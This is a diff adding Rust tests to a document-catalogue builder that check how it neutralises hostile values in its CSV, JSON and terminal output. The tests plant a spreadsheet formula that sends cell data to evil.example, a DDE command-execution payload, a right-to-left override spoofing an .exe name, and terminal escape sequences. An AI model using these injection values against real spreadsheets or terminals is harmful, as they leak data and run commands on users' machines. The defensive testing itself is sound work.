@@ -687,3 +687,64 @@ fn the_html_checker_itself_catches_active_markup() {
     let r = std::panic::catch_unwind(|| assert_search_call("window.__recueilRecherche(\"a\",[\"x\"]);alert(1);(\"\");\n", "t"));
     assert!(r.is_err());
 }
+
+/// The sample project with one line of the Hirson fiche replaced.
+fn sample_with(line: &str, new: &str) -> tempfile::TempDir {
+    let p = sample_project();
+    let path = p.path().join("fiches/insertion/ateliers-insertion-hirson.md");
+    let text = std::fs::read_to_string(&path).unwrap();
+    let start = text.find(line).unwrap_or_else(|| panic!("{line}"));
+    let end = start + text[start..].find('\n').unwrap();
+    std::fs::write(&path, format!("{}{new}{}", &text[..start], &text[end..])).unwrap();
+    p
+}
+
+#[test]
+fn a_formula_in_a_fiche_is_text_in_the_spreadsheets_and_raw_in_the_json() {
+    let p = sample_with("titre: ", r#"titre: '=HYPERLINK("http://evil.example/?x="&A1,"clic")'"#);
+    let path = p.path().join("fiches/insertion/ateliers-insertion-hirson.md");
+    let text =
+        std::fs::read_to_string(&path).unwrap().replace("{ nom: \"État – ACSé (politique de la ville)\"", "{ nom: \"=cmd|' /C calc'!A0\"");
+    std::fs::write(&path, text).unwrap();
+    let out = p.path().join("out");
+    ok(&build(p.path(), out.to_str().unwrap(), &[]));
+    let fiches = std::fs::read_to_string(out.join("donnees/fiches.csv")).unwrap();
+    let financements = std::fs::read_to_string(out.join("donnees/financements.csv")).unwrap();
+    assert!(fiches.contains(r#";"'=HYPERLINK(""http://evil.example/?x=""&A1,""clic"")";"#), "{}", &fiches[..600]);
+    assert!(financements.contains(";'=cmd|' /C calc'!A0;"), "{financements}");
+    assert!(!fiches.contains(";=") && !financements.contains(";=") && !financements.contains(";\"="), "no cell starts a formula");
+    // Numbers stay numbers.
+    assert!(financements.contains(";87900;2015"), "{financements}");
+    let json = std::fs::read_to_string(out.join("donnees/fiches.json")).unwrap();
+    assert!(json.contains(r#""titre":"=HYPERLINK(\"http://evil.example/?x=\"&A1,\"clic\")""#), "the JSON keeps the raw value");
+}
+
+#[test]
+fn hidden_controls_in_a_value_are_refused_and_never_reach_the_terminal() {
+    // A right-to-left override in a title, a terminal title sequence and a NUL in others.
+    let p = sample_with("titre: ", "titre: \"Facture \\u202Egnp.exe\\u202C\"");
+    let path = p.path().join("fiches/insertion/ateliers-insertion-hirson.md");
+    let text = std::fs::read_to_string(&path)
+        .unwrap()
+        .replace("structure: CCAS d'Hirson", "structure: \"CCAS\\e]0;pirate\\a d'Hirson\\e[8m\"")
+        .replace("type_structure: ccas", "type_structure: \"cc\\e[2Jas\"\nmots_cles: [\"a\\0b\"]");
+    std::fs::write(&path, text).unwrap();
+    let check = recueil().arg("--root").arg(p.path()).arg("check").output().unwrap();
+    assert_eq!(check.status.code(), Some(1));
+    let err = String::from_utf8_lossy(&check.stderr);
+    assert!(!err.contains('\u{1b}') && !err.contains('\u{7}') && !err.contains('\u{202E}') && !err.contains('\0'), "{err:?}");
+    assert!(
+        err.contains("ateliers-insertion-hirson.md:2:8: erreur: « titre » contient un caractère invisible (U+202E, inversion du sens d'écriture), en 9e position"),
+        "{err}"
+    );
+    assert!(err.contains("aide : retirez-le : titre: \"Facture gnp.exe\""), "{err}");
+    assert!(err.contains("« structure » contient un caractère invisible (U+001B, échappement de terminal), en 5e position"), "{err}");
+    assert!(err.contains("(U+0000, caractère nul)"), "{err}");
+    // A value echoed in another message is shown with its controls visible, never obeyed.
+    assert!(err.contains("« cc\\u{1B}[2Jas »"), "{err}");
+    // A build refuses too: nothing of it reaches a page, a feed or a PDF.
+    let out = p.path().join("out");
+    let built = build(p.path(), out.to_str().unwrap(), &[]);
+    failed(&built);
+    assert!(!out.exists());
+}
